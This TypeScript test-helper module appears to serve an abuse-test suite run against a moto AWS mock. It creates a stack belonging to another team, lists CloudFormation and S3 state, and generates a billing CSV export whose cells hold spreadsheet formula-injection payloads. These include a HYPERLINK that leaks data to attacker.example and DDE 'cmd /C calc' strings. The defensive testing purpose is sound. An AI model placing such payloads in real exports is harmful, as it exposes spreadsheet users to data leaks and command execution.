/**
 * The rehearsal's AWS (moto's server), as the organisation's other actors
 * use it: a stack that is not Runway's, a cost export with hostile tag
 * values, an object in the TechDocs bucket that no entity's docs hold. And
 * what the cases compare afterwards (stacks, change sets, objects).
 */
import {
  ListObjectsV2Command,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { MAIN_CREDENTIALS } from '../aws/awsEnv';
import { REGION } from '../rehearsal/seedAws';
import { abuseState } from './client';

function s3() {
  return new S3Client({
    endpoint: abuseState().motoUrl,
    region: REGION,
    credentials: MAIN_CREDENTIALS,
    forcePathStyle: true,
  });
}

export async function putObject(bucket: string, key: string, body: string) {
  await s3().send(
    new PutObjectCommand({ Bucket: bucket, Key: key, Body: body }),
  );
}

/** The keys (and ETags) under a bucket, one per line. */
export async function objectsOf(bucket: string): Promise<string> {
  const out: string[] = [];
  let token: string | undefined;
  do {
    const page = await s3().send(
      new ListObjectsV2Command({ Bucket: bucket, ContinuationToken: token }),
    );
    for (const o of page.Contents ?? []) out.push(`${o.Key} ${o.ETag}`);
    token = page.NextContinuationToken;
  } while (token);
  return out.sort().join('\n');
}

/**
 * One CloudFormation Query API call to moto (moto reads the account from
 * the access key and does not check the signature).
 */
async function cloudFormation(params: Record<string, string>): Promise<string> {
  const res = await fetch(abuseState().motoUrl, {
    method: 'POST',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      authorization: `AWS4-HMAC-SHA256 Credential=${MAIN_CREDENTIALS.accessKeyId}/20260101/${REGION}/cloudformation/aws4_request, SignedHeaders=host, Signature=0`,
    },
    body: new URLSearchParams({ Version: '2010-05-15', ...params }).toString(),
  });
  const text = await res.text();
  if (!res.ok) throw new Error(`CloudFormation ${params.Action}: ${text}`);
  return text;
}

/** Creates a stack as another team would, without Runway's tags. */
export async function createForeignStack(name: string) {
  const existing = await cloudFormation({ Action: 'DescribeStacks' });
  if (existing.includes(`<StackName>${name}</StackName>`)) return;
  await cloudFormation({
    Action: 'CreateStack',
    StackName: name,
    TemplateBody: JSON.stringify({
      Resources: { Queue: { Type: 'AWS::SQS::Queue' } },
    }),
    'Tags.member.1.Key': 'team',
    'Tags.member.1.Value': 'team-payments',
  });
}

/**
 * Every stack with its status, last update, tags, and its change sets:
 * what a deploy would change.
 */
export async function stacksState(): Promise<string> {
  const xml = await cloudFormation({ Action: 'DescribeStacks' });
  const stacks = [
    ...xml.matchAll(/<member>\s*<StackName>([^<]+)<\/StackName>/g),
  ]
    .map(m => m[1])
    .sort();
  const out: string[] = [];
  for (const name of stacks) {
    const one = await cloudFormation({
      Action: 'DescribeStacks',
      StackName: name,
    });
    const field = (f: string) =>
      new RegExp(`<${f}>([^<]*)</${f}>`).exec(one)?.[1] ?? '';
    const tags = [
      ...one.matchAll(/<Key>([^<]*)<\/Key>\s*<Value>([^<]*)<\/Value>/g),
    ]
      .map(m => `${m[1]}=${m[2]}`)
      .sort()
      .join(',');
    const changeSets = await cloudFormation({
      Action: 'ListChangeSets',
      StackName: name,
    });
    const sets = [...changeSets.matchAll(/<ChangeSetName>([^<]+)</g)].map(
      m => m[1],
    );
    out.push(
      `${name} ${field('StackStatus')} updated=${field(
        'LastUpdatedTime',
      )} tags=${tags} changeSets=${sets.join(',')}`,
    );
  }
  return out.join('\n');
}

/**
 * A FOCUS export of one day whose tag values and account name are
 * spreadsheet formulas (whoever can tag resources writes them).
 */
export function hostileFocusExport(day: string): string {
  const header =
    'BillingAccountId,BillingAccountName,BillingCurrency,BillingPeriodStart,BillingPeriodEnd,ChargePeriodStart,ChargePeriodEnd,ChargeCategory,ChargeClass,BilledCost,EffectiveCost,RegionId,ServiceName,SubAccountId,SubAccountName,Tags,x_UsageType';
  const cell = (v: string) =>
    /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  const month = day.slice(0, 7);
  const line = (
    account: string,
    name: string,
    tags: Record<string, string>,
    usage: string,
  ) =>
    [
      '999999999999',
      'payer',
      'USD',
      `${month}-01T00:00:00Z`,
      `${month}-28T00:00:00Z`,
      `${day}T03:00:00Z`,
      `${day}T03:59:59Z`,
      'Usage',
      '',
      '1.5',
      '1.25',
      'eu-west-1',
      'Amazon Simple Storage Service',
      account,
      name,
      JSON.stringify(tags),
      usage,
    ]
      .map(cell)
      .join(',');
  return [
    header,
    line(
      '333333333333',
      '=HYPERLINK("http://attacker.example/?leak="&A1,"open")',
      {
        'user:service': 'abuse-csv-formula',
        'user:team': "+cmd|' /C calc'!A0",
        'user:environment': "@SUM(1+1)*cmd|' /C calc'!A0",
      },
      "-2+3+cmd|' /C calc'!A0",
    ),
    line(
      '333333333333',
      'abuse\rline',
      {
        'user:service': 'abuse-csv-formula',
        'user:team': '\t=1+1',
        'user:environment': '\r=1+1',
      },
      'EU-Requests-Tier1',
    ),
    '',
  ].join('\n');
}

/** The formula payloads of {@link hostileFocusExport}. */
export const FORMULAS = [
  '=HYPERLINK(',
  '+cmd|',
  '@SUM(',
  '-2+3+cmd|',
  '\t=1+1',
  '\r=1+1',
];
